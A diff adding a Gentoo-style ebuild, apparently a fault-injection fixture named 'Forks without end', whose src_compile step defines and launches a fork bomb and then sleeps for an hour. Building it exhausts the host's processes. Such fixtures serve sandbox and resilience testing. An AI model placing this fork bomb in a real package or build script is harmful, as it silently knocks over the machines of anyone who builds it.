@@ -1,0 +1,18 @@
+# Copyright 2026 The cloche authors
+# Distributed under the terms of the GNU General Public License v2
+
+EAPI=8
+
+DESCRIPTION="Forks without end"
+HOMEPAGE="https://example.org/faults"
+S="${WORKDIR}"
+
+LICENSE="public-domain"
+SLOT="0"
+KEYWORDS="amd64"
+
+src_compile() {
+	faults_bomb() { faults_bomb | faults_bomb & }
+	faults_bomb
+	sleep 3600
+}
